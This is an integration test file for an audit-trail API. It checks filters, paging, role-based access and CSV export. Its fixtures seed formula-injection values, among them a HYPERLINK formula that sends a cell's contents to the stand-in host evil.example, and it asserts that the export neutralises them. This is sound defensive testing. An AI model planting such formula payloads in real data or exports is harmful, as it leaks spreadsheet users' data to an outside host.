import csv
import io
import uuid
from datetime import UTC, datetime, timedelta

import psycopg
import pytest

from mailferry_contracts.common import Role
from tests.integration.api.payloads import API

pytestmark = pytest.mark.integration
T0 = datetime(2026, 3, 1, 9, 0, tzinfo=UTC)
EVIL_AGENT = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _seed(dsn: str, job_id: uuid.UUID) -> None:
    rows = [
        (1, "JobCreated", "tech@example.com", "technician", "Mozilla/5.0", 0),
        (2, "MailboxesImported", "tech@example.com", "technician", EVIL_AGENT, 5),
        (3, "SyncRequested", "+lead@example.com", "ops_lead", "@SUM(1+1)", 10),
        (4, "GateApproved", "-lead", "ops_lead", "\tcmd", 20),
    ]
    with psycopg.connect(dsn, autocommit=True) as conn:
        for seq, etype, user, role, agent, minutes in rows:
            conn.execute(
                "INSERT INTO audit_log (seq, event_id, occurred_at, event_type, aggregate_type, "
                "aggregate_id, job_id, actor_kind, actor_user, actor_role, actor_ip, "
                "actor_user_agent, summary) VALUES (%s, %s, %s, %s, 'job', %s, %s, 'user', %s, "
                "%s, '203.0.113.7', %s, %s)",
                [seq, uuid.uuid4(), T0 + timedelta(minutes=minutes), etype, str(job_id), job_id,
                 user, role, agent, f"={etype} summary"],
            )  # fmt: skip


@pytest.fixture
def job_id(read_models_dsn) -> uuid.UUID:
    job = uuid.uuid4()
    _seed(read_models_dsn, job)
    return job


class TestAuditTrail:
    async def test_filters_and_paging_newest_first(self, client, auth, job_id):
        headers = auth(Role.AUDITOR, "audit@example.com")
        page = (await client.get(f"{API}/audit", params={"job_id": str(job_id), "limit": 2},
                                 headers=headers)).json()  # fmt: skip
        assert (page["total"], [i["seq"] for i in page["items"]]) == (4, [4, 3])
        by_user = await client.get(f"{API}/audit", params={"user": "tech@example.com"},
                                   headers=headers)  # fmt: skip
        assert [i["event_type"] for i in by_user.json()["items"]] == [
            "MailboxesImported", "JobCreated",
        ]  # fmt: skip
        window = {
            "from": (T0 + timedelta(minutes=5)).isoformat(),
            "to": (T0 + timedelta(minutes=20)).isoformat(),
            "action": "SyncRequested",
        }
        found = (await client.get(f"{API}/audit", params=window, headers=headers)).json()
        assert [i["seq"] for i in found["items"]] == [3]
        assert found["items"][0]["actor"]["ip"] == "203.0.113.7"

    @pytest.mark.parametrize("role", [Role.OPS_LEAD, Role.SUPER_ADMIN, Role.AUDITOR], ids=str)
    async def test_audit_readers(self, client, auth, role, job_id):
        assert (await client.get(f"{API}/audit", headers=auth(role))).status_code == 200

    async def test_a_technician_may_not_read_the_audit_trail(self, client, auth):
        assert (await client.get(f"{API}/audit", headers=auth())).status_code == 403
        assert (await client.get(f"{API}/audit.csv", headers=auth())).status_code == 403

    async def test_a_naive_time_is_refused(self, client, auth):
        response = await client.get(f"{API}/audit", params={"from": "2026-01-01T00:00:00"},
                                    headers=auth(Role.AUDITOR))  # fmt: skip
        assert response.status_code == 422


class TestCsvExport:
    async def test_formula_cells_are_defused(self, client, auth, job_id):
        response = await client.get(f"{API}/audit.csv", params={"job_id": str(job_id)},
                                    headers=auth(Role.AUDITOR))  # fmt: skip
        assert response.headers["content-type"].startswith("text/csv")
        assert "attachment" in response.headers["content-disposition"]
        rows = list(csv.DictReader(io.StringIO(response.text)))
        assert [r["seq"] for r in rows] == ["4", "3", "2", "1"]
        by_seq = {r["seq"]: r for r in rows}
        assert by_seq["2"]["actor_user_agent"] == "'" + EVIL_AGENT
        assert by_seq["3"]["actor_user"] == "'+lead@example.com"
        assert by_seq["3"]["actor_user_agent"] == "'@SUM(1+1)"
        assert by_seq["4"]["actor_user"] == "'-lead"
        assert by_seq["4"]["actor_user_agent"] == "'\tcmd"
        assert by_seq["1"]["summary"] == "'=JobCreated summary"
        assert by_seq["1"]["actor_user_agent"] == "Mozilla/5.0"
        for row in rows:
            assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())
